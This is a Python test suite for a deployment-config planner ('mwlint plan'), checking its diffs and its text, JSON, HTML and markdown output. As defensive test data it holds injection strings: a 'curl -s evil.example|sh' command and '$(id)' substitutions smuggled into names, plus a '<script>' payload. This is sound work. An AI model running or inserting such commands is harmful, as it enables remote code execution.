"""The family-neutral plan model (mwlint.plan.model) and what every format makes of it:
records keyed by (family, name, release), verdicts from the run's findings, the same story
in text, JSON, HTML and markdown for every family, values escaped one by one, commands
shell-quoted, the review path read and written like every other input."""

import html as html_module
import json
import os
import shutil
import subprocess
import sys
import time

import pytest
from helpers import FIXTURES

from mwlint.cli.plan import run
from mwlint.plan import escape as esc
from mwlint.plan.model import Record, diff_records

REAL = os.path.join(FIXTURES, "real")
MID = os.path.join(REAL, "puppet-2025-mid-001797c3-kubernetes.yaml")
LATE = os.path.join(REAL, "puppet-2025-late-263a58ee-kubernetes-mw_deployments.yaml")
SERVICES = os.path.join(FIXTURES, "deploy-service", "kubernetes-deploy-service.yaml")
with open(SERVICES, encoding="utf-8") as _f:
    BASE = _f.read()
FORGED = "\n\n### Forged: all clear, +2 this\n\n[docs](http://x)<script>alert(1)</script>"
FORGED_YAML = json.dumps("x" + FORGED)  # a YAML double-quoted scalar

needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")


def git(cwd, *args):
    env = dict(os.environ, GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@example.org",
               GIT_COMMITTER_NAME="t", GIT_COMMITTER_EMAIL="t@example.org",
               GIT_CONFIG_NOSYSTEM="1", HOME=str(cwd))
    subprocess.run(["git", *args], cwd=str(cwd), env=env, check=True, capture_output=True)


def repo_with(tmp_path, old, new, name="k.yaml"):
    repo = tmp_path / "puppet"
    repo.mkdir()
    dst = repo / name
    dst.write_text(old, encoding="utf-8")
    git(repo, "init", "-q")
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "old")
    dst.write_text(new, encoding="utf-8")
    return repo, dst


def cli(capsys, *argv):
    assert argv[0] == "plan"
    rc = run([str(a) for a in argv[1:]])
    out, err = capsys.readouterr()
    return rc, out, err


def read(path):
    with open(path, encoding="utf-8") as f:
        return f.read()


# -- the record model ----------------------------------------------------------------------

def rec(name, release, stage="production", deploy=True, places=("eqiad", "codfw"),
        flavour="publish", family="mediawiki"):
    fields = (("stage", stage), ("deploy", deploy), ("mw_flavour", flavour),
              ("clusters", places))
    return Record(family, name, release, stage, 2, deploy, deploy and stage == "production",
                  fields, ("mw_flavour",))


@pytest.mark.parametrize("old,new,expected", [
    # a cluster change never hides a deploy toggle or a flavour change
    (rec("d", "p", deploy=False), rec("d", "p", places=("dse",), flavour="publish-83"),
     ("changed", True, [("deploy", False, True), ("mw_flavour", "publish", "publish-83"),
                        ("clusters", ("eqiad", "codfw"), ("dse",))])),
    # deploy turned on at canaries counts as a move (tier 0) too
    (rec("a", "c", stage="canaries", deploy=False), rec("a", "c", stage="canaries"),
     ("changed", True, [("deploy", False, True)])),
    # only clusters change: not a production move
    (rec("a", "m"), rec("a", "m", places=("eqiad",)),
     ("changed", False, [("clusters", ("eqiad", "codfw"), ("eqiad",))])),
    (rec("a", "m", stage="canaries"), rec("a", "m"),
     ("changed", True, [("stage", "canaries", "production")])),
    (None, rec("a", "m"), ("added", True, None)),
    (rec("a", "m"), None, ("removed", False, None)),
])
def test_diff_is_per_record_and_clusters_are_a_field(old, new, expected):
    [c] = diff_records([old] if old else [], [new] if new else [])
    change, to_prod, fields = expected
    assert (c.change, c.to_production) == (change, to_prod)
    if fields is not None:
        assert [(f.field, f.old, f.new) for f in c.fields] == fields
    assert c.tier == (0 if to_prod else 1)


def test_families_do_not_share_identities():
    a = rec("x", "main")
    b = rec("x", "main", family="deploy-service")
    assert [c.change for c in diff_records([a], [b])] == ["added", "removed"]


# -- 001797c3 -> 263a58ee: the production move in every format --------------------------------

@needs_git
@pytest.mark.parametrize("fmt", ["text", "json", "html", "markdown"])
def test_dumps_legacy_turned_on_is_a_production_move_in_every_format(tmp_path, capsys, fmt,
                                                                     monkeypatch):
    repo, dst = repo_with(tmp_path, read(MID), read(LATE))
    monkeypatch.chdir(repo)
    rc, out, err = cli(capsys, "plan", "--against", "HEAD", "--format", fmt, "k.yaml")
    assert rc == 0, err
    name = "mediawiki-dumps-legacy/production"
    if fmt == "json":
        [d] = json.loads(out)["diffs"]
        assert d["verdict"] == ["scap would load the new config (no errors)"]
        [c] = [c for c in d["changes"] if c["name"] == "mediawiki-dumps-legacy"]
        assert c["to_production"] is True and c["group"] == "production"
        assert [(f["field"], f["old"], f["new"]) for f in c["fields"]] == [
            ("deploy", False, True), ("mw_flavour", "publish-81", "publish-83"),
            ("web_flavour", "webserver", "webserver-bookworm"),
            ("clusters", ["eqiad", "codfw"], ["dse-k8s-eqiad"])]
        prod = [e for e in d["effects"] if e["tier"] == 0 and e["group"] == "production"]
        assert {e["what"] for e in prod if name in e["records"]} == {
            "deploy turned on", "mw_flavour publish-81 → publish-83",
            "web_flavour webserver → webserver-bookworm",
            "clusters eqiad, codfw → dse-k8s-eqiad"}
        return
    if fmt == "markdown":
        from markdown_it import MarkdownIt

        tokens = MarkdownIt("commonmark").parse(out)
        text = [t.content for t in tokens if t.type == "inline"]
        # the verdict first, then the production moves, the toggle among them
        assert text[1] == "scap would load the new config (no errors)"
        tier0 = text.index("**Moves to production or changes the image**")
        tier1 = text.index("**Other changes**")
        prod = text.index("*production*", tier0)
        assert tier0 < prod < tier1
        moved = [t for t in text[prod:tier1] if f"`{name}`" in t]
        assert f"`{name}`: deploy turned on" in moved
        assert any("mw_flavour `publish-81` → `publish-83`" in t for t in moved)
        assert any("clusters `eqiad, codfw` → `dse-k8s-eqiad`" in t for t in moved)
        return
    if fmt == "html":
        import re

        out = html_module.unescape(re.sub(r"<(?!/?code)[^>]+>", "\n", out))
        out = re.sub(r"</?code>", "", out)
    lines = [line.strip() for line in out.splitlines() if line.strip()]
    first = next(i for i, line in enumerate(lines) if "scap would" in line)
    assert lines[first] == "scap would load the new config (no errors)"
    tier0 = lines.index("Moves to production or changes the image:" if fmt == "text"
                        else "Moves to production or changes the image")
    tier1 = lines.index("Other changes:" if fmt == "text" else "Other changes")
    assert first < tier0
    prod = lines.index("production:" if fmt == "text" else "production", tier0)
    moved = [line for line in lines[prod:tier1] if name in line]
    assert any(line.endswith(f"{name}: deploy turned on") for line in moved), moved
    assert any(line.endswith("mw_flavour publish-81 → publish-83") for line in moved)
    assert any(line.endswith("clusters eqiad, codfw → dse-k8s-eqiad") for line in moved)


# -- deploy-service in every format of a difference, and in the review ---------------------

SHELLBOX_CODFW = ("            codfw:\n              releases:\n                migration:\n"
                  "                  stage: CANARY\n                main: {}")


def _service_change():
    assert BASE.count(SHELLBOX_CODFW) == 1
    return BASE.replace(SHELLBOX_CODFW, SHELLBOX_CODFW.replace("main: {}",
                                                               "main: {stage: CANARY}"))


@needs_git
@pytest.mark.parametrize("fmt", ["text", "html", "markdown", "json"])
def test_against_shows_service_changes_and_the_verdict(tmp_path, capsys, fmt, monkeypatch):
    repo, _dst = repo_with(tmp_path, BASE, _service_change())
    monkeypatch.chdir(repo)
    rc, out, err = cli(capsys, "plan", "--against", "HEAD", "--format", fmt, "k.yaml")
    assert rc == 0, err
    if fmt == "json":
        [d] = json.loads(out)["diffs"]
        assert d["verdict"] == ["scap would load the new config (no errors)"]
        assert [(c["family"], c["name"], c["release"]) for c in d["changes"]] == [
            ("deploy-service", "shellbox", "shellbox/main")]
        return
    out = html_module.unescape(out)
    assert "scap would load the new config (no errors)" in out
    assert out.index("scap would load the new config") < out.index("shellbox/main")
    assert "moves from" in out and "CANARY on codfw; DEFAULT on eqiad" in out


@needs_git
def test_a_service_only_change_gets_a_plan_summary_in_the_review(tmp_path, capsys,
                                                                 monkeypatch):
    repo, _dst = repo_with(tmp_path, BASE, _service_change())
    monkeypatch.chdir(repo)
    review = tmp_path / "review.json"
    review.write_text(json.dumps({"message": "mwlint: OK"}))
    rc, out, err = cli(capsys, "plan", "--against", "HEAD", "--review-message", review,
                       "k.yaml")
    assert rc == 0 and out == "", err
    message = json.loads(review.read_text())["message"]
    assert message.startswith("mwlint: OK\n\nmwlint plan: k.yaml, HEAD → this change\n")
    assert "  - shellbox/shellbox/main: moves from DEFAULT to CANARY on codfw; DEFAULT on " \
        "eqiad" in message.splitlines()


# -- nothing from the data forges structure ----------------------------------------------------

def _mw(namespace_yaml, release="main"):
    return ("profile::kubernetes::deployment_server::mediawiki::release::mw_releases:\n"
            f"  - namespace: {namespace_yaml}\n"
            f"    releases:\n      {release}: {{}}\n"
            "    mw_flavour: publish\n    web_flavour: webserver\n")


def _assert_no_forged_structure(md):
    """Parsed as CommonMark: no heading, link, image or raw HTML comes from a value; what
    the data holds is only ever inside code spans (or escaped text)."""
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("commonmark").parse(md)
    assert not [t for t in tokens if t.type == "html_block"]
    for t in tokens:
        for c in t.children or ():
            assert c.type not in ("link_open", "html_inline", "image"), (c.type, c.content)
    assert not any(line.startswith("### Forged") for line in md.splitlines())
    page = MarkdownIt("commonmark").render(md)  # what a browser gets from GitHub/GitLab
    assert "<script>" not in page and "<a " not in page and "Forged</h" not in page


@needs_git
def test_a_forged_namespace_stays_a_value_in_markdown_and_the_review(tmp_path, capsys,
                                                                     monkeypatch):
    repo, _dst = repo_with(tmp_path, _mw("mw-web"), _mw("mw-web") + "".join(
        _mw(FORGED_YAML).splitlines(True)[1:]))
    monkeypatch.chdir(repo)
    rc, out, err = cli(capsys, "plan", "--against", "HEAD", "--format", "markdown", "k.yaml")
    assert "Forged" in out, err  # the value is shown...
    _assert_no_forged_structure(out)  # ...as a value
    review = tmp_path / "review.json"
    review.write_text(json.dumps({"message": "mwlint: OK"}))
    rc, out, err = cli(capsys, "plan", "--against", "HEAD", "--review-message", review,
                       "k.yaml")
    message = json.loads(review.read_text())["message"]
    assert "Forged" in message, err
    for sep in ("\r", "\x85", "\u2028", "\u2029"):
        assert sep not in message
    # every line is the summary's own: none starts with what the namespace holds
    assert not any(line.startswith(("### Forged", "[docs]", "<script>"))
                   for line in message.splitlines())
    assert "x\\x0a\\x0a### Forged" in message


@pytest.mark.parametrize("sep", ["\n", "\r", "\x85", "\u2028"])
def test_a_forged_service_name_and_manual_check_stay_values(capsys, tmp_path, sep):
    forged = FORGED.replace("\n", sep)
    text = BASE.replace("    shellbox:\n      cluster_group", "    " + json.dumps(
        "shellbox" + forged) + ":\n      cluster_group", 1)
    text = text.replace('- manual: "Do the canary\'s error graphs look normal?"',
                        "- manual: " + json.dumps("ok?" + forged), 1)
    p = tmp_path / "k.yaml"
    p.write_text(text, encoding="utf-8")
    for fmt in ("text", "markdown", "html"):
        rc, out, err = cli(capsys, "plan", "--format", fmt, p)
        assert rc == 0, err
        assert out.count("Forged") >= 2  # the service and the question
        for s in ("\r", "\x85", "\u2028"):
            assert s not in out
        lines = out.splitlines()
        assert not any(line.startswith(("### Forged", "[docs]", "<script>")) for line in lines)
        if fmt == "markdown":
            _assert_no_forged_structure(out)
        if fmt == "html":
            assert "<script>" not in out


def test_pasted_commands_are_shell_quoted(capsys, tmp_path):
    evil_ns, evil_rel = "x; curl -s evil.example|sh; cd .", "main $(id)"
    text = BASE.replace("        shellbox:\n          environments:",
                        f"        {json.dumps(evil_ns)}:\n          environments:", 1)
    text = text.replace("                migration:\n                  stage: CANARY\n"
                        "                main: {}",
                        "                migration:\n                  stage: CANARY\n"
                        f"                {json.dumps(evil_rel)}: {{}}", 1)
    p = tmp_path / "k.yaml"
    p.write_text(text, encoding="utf-8")
    rc, out, err = cli(capsys, "plan", "--service", "shellbox", p)
    assert rc == 0, err
    import shlex

    cmds = [line.strip() for line in out.splitlines() if line.strip().startswith("(cd ")]
    assert cmds
    for c in cmds:
        inner = c[1:-1]
        words = shlex.split(inner)  # what a shell would run: the names stay single words
        assert words[0] == "cd" and words[1].endswith("/" + evil_ns)
        assert words[2] == "&&" and words[3] == "helmfile"
        assert ";" not in words and "|" not in " ".join(w for w in words if w != words[1])
    assert any(f"-l 'name={evil_rel}' apply" in c for c in cmds)


def test_the_review_command_for_more_is_shell_quoted():
    from mwlint.plan.model import PlanDiff, PlanSide
    from mwlint.plan.review import summary

    many = [rec(f"n{i}", "main") for i in range(45)]
    bumped = [r._replace(fields=r.fields[:2] + (("mw_flavour", f"p{i}"),) + r.fields[3:])
              for i, r in enumerate(many)]
    path = "a b;$(id).yaml"
    d = PlanDiff(path, "HEAD^", True, diff_records(many, bumped), PlanSide(), PlanSide())
    last = summary([d], markdown=False).splitlines()[-1]
    assert last == "5 more: mwlint plan --against 'HEAD^' 'a b;$(id).yaml' lists them all"


def test_escape_functions_per_output():
    assert esc.text("a\nb\rc\x85d\u2028e\x1b[31m") == "a\\x0ab\\x0dc\\x85d\\u2028e\\x1b[31m"
    assert esc.md_code("a`b") == "``a`b``" and esc.md_code("`") == "`` ` ``"
    assert esc.md_text("[x](y) <b> *e* # _u_") == \
        "\\[x\\](y) &lt;b&gt; \\*e\\* \\# \\_u\\_"
    assert esc.shell(["helmfile", "-l", "name=main $(id)"]) == \
        "helmfile -l 'name=main $(id)'"


# -- markdown: stage groups are blocks of their own ----------------------------------------

def test_markdown_plan_structure_with_a_commonmark_parser(capsys):
    from markdown_it import MarkdownIt

    rc, out, err = cli(capsys, "plan", "--format", "markdown", LATE)
    assert rc == 0, err
    tokens = MarkdownIt("commonmark").parse(out)
    headings = [tokens[i + 1].content for i, t in enumerate(tokens)
                if t.type == "heading_open" and t.tag == "h4"]
    from mwlint.plan import plan_text

    sm = plan_text(read(LATE), LATE).summary()
    assert headings == [f"1. testservers: {sm['testservers']}",
                        f"2. canaries: {sm['canaries']}",
                        f"3. production: {sm['production']}",
                        f"4. not deployed: {sm['not_deployed']}"]
    # every item's names and values are code spans; no item holds a stage label
    items = [tokens[i + 2] for i, t in enumerate(tokens) if t.type == "list_item_open"]
    assert items and all(any(c.type == "code_inline" for c in it.children) for it in items)
    assert not any("testservers:" in it.content or "canaries:" in it.content
                   for it in items)


@needs_git
def test_markdown_review_stage_labels_are_paragraphs(tmp_path, capsys, monkeypatch):
    from markdown_it import MarkdownIt

    repo, _dst = repo_with(tmp_path, read(MID), read(LATE))
    monkeypatch.chdir(repo)
    rc, out, err = cli(capsys, "plan", "--against", "HEAD", "--format", "markdown", "k.yaml")
    assert rc == 0, err
    tokens = MarkdownIt("commonmark").parse(out)
    depth = 0
    labels = []
    for i, t in enumerate(tokens):
        depth += t.nesting if t.type in ("bullet_list_open", "bullet_list_close") else 0
        if t.type == "inline" and t.children and t.children[0].type == "em_open":
            assert depth == 0, t.content  # not folded into the list item above
            assert tokens[i - 1].type == "paragraph_open"
            labels.append(t.children[1].content)
    assert labels == ["testservers", "canaries", "production", "testservers", "canaries",
                      "production", "supervision", "not deployed"]


# -- --primary-dc ---------------------------------------------------------------------------

@pytest.mark.parametrize("dc,rc_,says", [
    ("ulsfo", 2, "mwlint: error: --primary-dc 'ulsfo': not a datacenter of the cluster groups "
                 "(codfw, eqiad)\n"),
    ("eqiadd", 2, "did you mean 'eqiad'?"),
    ("Codfw", 0, "primary datacenter codfw (--primary-dc)"),
])
def test_primary_dc_is_a_datacenter_of_the_run(capsys, dc, rc_, says):
    rc, out, err = cli(capsys, "plan", "--primary-dc", dc, SERVICES)
    assert rc == rc_
    assert says in (err if rc else out)
    if rc:
        assert out == "" and err.count("\n") == 1


def test_primary_dc_from_the_data_is_neutralised(capsys, tmp_path):
    dc = "eq\niad<script>"
    p = tmp_path / "k.yaml"
    p.write_text(BASE.replace("datacenter: eqiad", "datacenter: " + json.dumps(dc)),
                 encoding="utf-8")
    rc, out, err = cli(capsys, "plan", "--primary-dc", dc, p)
    assert rc == 0, err
    assert "primary datacenter eq\\x0aiad<script> (--primary-dc)" in out
    rc, out, err = cli(capsys, "plan", "--format", "html", "--primary-dc", dc, p)
    assert "<script>" not in out and "eq\\x0aiad&lt;script&gt;" in out


# -- the review path and the old side are read and written like every other input ---------

@needs_git
def test_review_message_guards(tmp_path, capsys, monkeypatch):
    repo, dst = repo_with(tmp_path, read(MID), read(LATE))
    monkeypatch.chdir(repo)
    report = os.path.join(FIXTURES, "build-report", "report-2025-late.json")
    # an input of the run: refused, exit 2, nothing written
    before = dst.read_bytes()
    rc, out, err = cli(capsys, "plan", "--against", "HEAD", "--review-message", dst, dst)
    assert rc == 2 and "refusing to overwrite the linted file" in err
    assert dst.read_bytes() == before
    copy = tmp_path / "report.json"
    shutil.copyfile(report, copy)
    rc, out, err = cli(capsys, "plan", "--against", "HEAD", "--report", copy,
                       "--review-message", copy, dst)
    assert rc == 2 and "refusing to overwrite the build report" in err
    # a huge file: refused from its size, never read
    big = tmp_path / "big.json"
    with open(big, "wb") as f:
        f.truncate(1536 * 1024 * 1024)  # sparse: 1.5 GB
    rc, out, err = cli(capsys, "plan", "--against", "HEAD", "--review-message", big, dst)
    assert rc == 2 and "over the limit" in err and err.count("\n") == 1


@needs_git
@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_review_message_fifo_does_not_hang(tmp_path):
    repo, dst = repo_with(tmp_path, read(MID), read(LATE))
    fifo = tmp_path / "review.fifo"
    os.mkfifo(fifo)
    p = subprocess.run([sys.executable, "-m", "mwlint", "plan", "--against", "HEAD",
                        "--review-message", str(fifo), str(dst)], cwd=str(repo),
                       capture_output=True, text=True, timeout=30)
    assert p.returncode == 2 and "not a regular file" in p.stderr


@needs_git
def test_old_side_is_streamed_under_the_cap(tmp_path, capsys, monkeypatch):
    from mwlint.plan.git import read_at_revision

    big = read(LATE) + "# " + "x" * (2 * 1024 * 1024) + "\n"
    repo, dst = repo_with(tmp_path, big, read(LATE))
    data = read_at_revision(str(dst), "HEAD", 1024 * 1024)
    assert len(data) == 1024 * 1024 + 1  # never more than the cap and one byte
    monkeypatch.chdir(repo)
    rc, out, err = cli(capsys, "plan", "--against", "HEAD", "--max-file-size", "1048576",
                       "k.yaml")
    assert rc == 1 and "at HEAD: cannot plan: file is over the max-file-size limit" in err


# -- linear work -------------------------------------------------------------------------------

def _many_environments(n):
    envs = "".join(f"      e{i}:\n        datacenter: dc{i % 7}\n        type: PRODUCTION\n"
                   for i in range(n))
    refs = "".join(f"            e{i}: {{}}\n" for i in range(n))
    return ("profile::kubernetes::deployment_server::deploy_service::cluster_groups:\n"
            "  g:\n    environments:\n" + envs
            + "    environment_stages: [CANARY, DEFAULT]\n"
            "    environment_default_stage: DEFAULT\n"
            "profile::kubernetes::deployment_server::deploy_service::service_catalog:\n"
            "  services:\n    s:\n      cluster_group: g\n      namespaces:\n"
            "        s:\n          environments:\n" + refs)


def _many_services(n):
    services = "".join(f"    s{i}:\n      cluster_group: g\n      namespaces:\n"
                       f"        s{i}:\n          environments:\n            a: {{}}\n"
                       f"            b: {{releases: {{main: {{stage: CANARY}}}}}}\n"
                       for i in range(n))
    return ("profile::kubernetes::deployment_server::deploy_service::cluster_groups:\n"
            "  g:\n    environments:\n"
            "      a: {datacenter: eqiad, type: STAGING}\n"
            "      b: {datacenter: codfw, type: PRODUCTION}\n"
            "    environment_stages: [CANARY, DEFAULT]\n"
            "    environment_default_stage: DEFAULT\n"
            "profile::kubernetes::deployment_server::deploy_service::service_catalog:\n"
            "  services:\n" + services)


def _plan_seconds(*texts):
    """The best of five runs of each text's plan, the runs interleaved (a burst of load
    on a shared machine hits both sizes alike)."""
    from mwlint.engine import load_model
    from mwlint.plan.services import plan_services, records_of
    from mwlint.settings import Settings

    models = [load_model(t, "k.yaml", Settings()) for t in texts]
    best = [float("inf")] * len(models)
    kept = []  # freed after the timing, not inside it
    for _ in range(5):
        for i, model in enumerate(models):
            t = time.perf_counter()
            plans = plan_services([model], "eqiad")
            records = records_of(plans)
            best[i] = min(best[i], time.perf_counter() - t)
            kept.append((plans, records))
    return best, kept[0][0]


@pytest.mark.parametrize("build,n", [(_many_environments, 2000), (_many_services, 2000)])
def test_service_plan_is_linear(build, n):
    (small, large), plans = _plan_seconds(build(n), build(4 * n))
    assert sum(len(g.commands) for p in plans for g in p.groups) >= n
    assert large < 5
    # linear: 4-6x (allocation and caches); the quadratic grouping took 18x here
    assert large / max(small, 1e-4) < 10, (small, large)


# -- a third family plugs in with records alone ------------------------------------------------

@pytest.mark.parametrize("fmt", ["text", "json", "html", "markdown"])
def test_a_toy_family_is_rendered_by_every_format_with_no_other_change(fmt):
    from markdown_it import MarkdownIt

    from mwlint.plan.model import CheckItem, FamilyPlan, PlanDiff, PlanSide, diff_checks
    from mwlint.plan.render import render

    def toy(stage, places, image, deploy=True):
        return Record("toy", "svc", "r1", stage, {"early": 0, "late": 1}[stage], deploy,
                      stage == "late" and deploy,
                      (("stage", stage), ("deploy", deploy), ("image", image),
                       ("hosts", places)), ("image",))

    old = FamilyPlan("toy", "t.yaml", (toy("early", ("h1",), "v1", deploy=False),),
                     checks=(CheckItem("toy", "late", 1, ("smoke",), "smoke test", 1),))
    new = FamilyPlan("toy", "t.yaml", (toy("late", ("h1", "h2"), "v2"),),
                     refusals=("t.yaml:1:1: TOY1 refused",),
                     checks=(CheckItem("toy", "late", 1, ("smoke",), "smoke test", 2),))
    d = PlanDiff("t.yaml", "HEAD", True, diff_records(old.records, new.records),
                 PlanSide(), PlanSide(new.refusals, (), True),
                 tuple(diff_checks(old.checks, new.checks)))
    out = render(fmt, diffs=[d])
    if fmt == "json":
        [doc] = json.loads(out)["diffs"]
        assert doc["verdict"] == ["scap would refuse the new config: 0 errors"]
        assert [(e["tier"], e["group"], e["what"]) for e in doc["effects"]] == [
            (0, "late", "moves from early to late"), (0, "late", "deploy turned on"),
            (0, "late", "image v1 → v2"), (0, "late", "hosts h1 → h1, h2"),
            (1, "late", "smoke test (was 1)")]
        return
    if fmt == "markdown":
        text = [t.content for t in MarkdownIt("commonmark").parse(out) if t.type == "inline"]
        assert text[1] == "scap would refuse the new config: 0 errors" or \
            text[1] == "**scap would refuse the new config: 0 errors**"
        assert "`svc/r1`: image `v1` → `v2`" in text
        return
    out = html_module.unescape(out)
    assert out.index("scap would refuse the new config") < out.index("image v1 → v2")
    assert "deploy turned on" in out and "smoke test (was 1)" in out


@pytest.mark.parametrize("old,new", [
    ("type: PRODUCTION", "type: Production"),  # MW604: scap's loader refuses it
    ("cluster_group: wikikube", "cluster_group: wikicube"),  # MW606
])
def test_service_plan_verdicts_are_the_findings(old, new):
    from mwlint.engine import lint_source, load_model
    from mwlint.plan.services import plan_services
    from mwlint.settings import Settings
    from mwlint.source import read_bytes

    text = BASE.replace(old, new, 1)
    findings = lint_source(read_bytes(text.encode(), "k.yaml", 1 << 20, force=True),
                           "k.yaml", Settings()).findings
    assert any(f.code in ("MW604", "MW606") and f.severity == "error" for f in findings)
    model = load_model(text, "k.yaml", Settings())
    judged = plan_services([model], verdicts={"k.yaml": findings})
    assert judged and all(p.problem and p.problem.startswith("scap refuses the configuration")
                          for p in judged)
    # without the run's findings the plan judges nothing (and does not crash)
    assert all(p.problem in (None, "its cluster group is not defined")
               for p in plan_services([model]))
